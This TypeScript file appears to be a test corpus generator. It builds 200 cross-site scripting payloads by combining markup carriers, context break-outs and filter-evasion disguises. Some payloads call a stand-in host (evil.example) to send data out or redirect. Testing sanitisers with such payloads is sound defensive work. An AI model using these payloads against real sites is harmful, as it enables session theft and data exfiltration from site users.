/**
 * Texts that would run as a script wherever a page took them for markup: by combination of what begins a script, where
 * it would have to break out of, and how it would hide. Each calls `alert` or asks for `/stolen`, so that one that runs
 * is seen. Two hundred, none twice.
 */
const actions = [
  (id: number) => `alert(${id})`,
  (id: number) => `fetch('//evil.example/stolen?${id}')`,
  (id: number) => `top.location='http://evil.example/stolen?${id}'`,
] as const

/** Markup that runs `js` when it is parsed, shown, loaded or clicked by chance. */
const carriers: readonly ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<svg onload="${js}">`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<body onload="${js}">`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<details open ontoggle="${js}">`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<object data="javascript:${js}">`,
  (js) => `<math href="javascript:${js}">a</math>`,
  (js) => `<a href="javascript:${js}">a</a>`,
  (js) => `<form action="javascript:${js}"><button autofocus>a</button></form>`,
  (js) => `<link rel=stylesheet href="//evil.example/stolen.css" onload="${js}">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<base href="//evil.example/"><img src=stolen onerror="${js}">`,
  (js) => `<style>@import '//evil.example/stolen';</style><img src=x onerror="${js}">`,
  (js) => `<marquee onstart="${js}">a</marquee>`,
  (js) => `<template><img src=x onerror="${js}"></template><img src=x onerror="${js}">`,
]

/** What the text might stand in: nothing, an attribute, a text field, a comment, a script, a style, a URL, a cue. */
const breaks = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '-->',
  '</script>',
  '</style>',
  ']]>',
  '&quot;>',
  '\\">',
  '`;',
] as const

/** Ways to slip by whoever looks for the carrier by its letters. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  (text) => text.replace(/ on(\w+)=/g, '/on$1='),
  (text) => text.replace(/javascript:/g, 'java\tscript:'),
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
]

export const payloads: readonly string[] = combined(200)

/** Every carrier in every break first, then the disguises; each with the action of its turn. */
function combined(count: number): string[] {
  const found = new Set<string>()
  for (const [d, disguise] of disguises.entries()) {
    for (const [b, before] of breaks.entries()) {
      for (const [c, carrier] of carriers.entries()) {
        // A diagonal through all three, so that each value of each meets the others within the count.
        if ((b + c + d) % breaks.length !== (d * 5) % breaks.length && d > 0) continue
        if (d === 0 && (b + c) % 2 === 1) continue
        const action = actions[(b + c + d) % actions.length] ?? actions[0]
        found.add(disguise(`${before}${carrier(action(found.size))}`))
        if (found.size === count) return [...found]
      }
    }
  }
  return [...found]
}
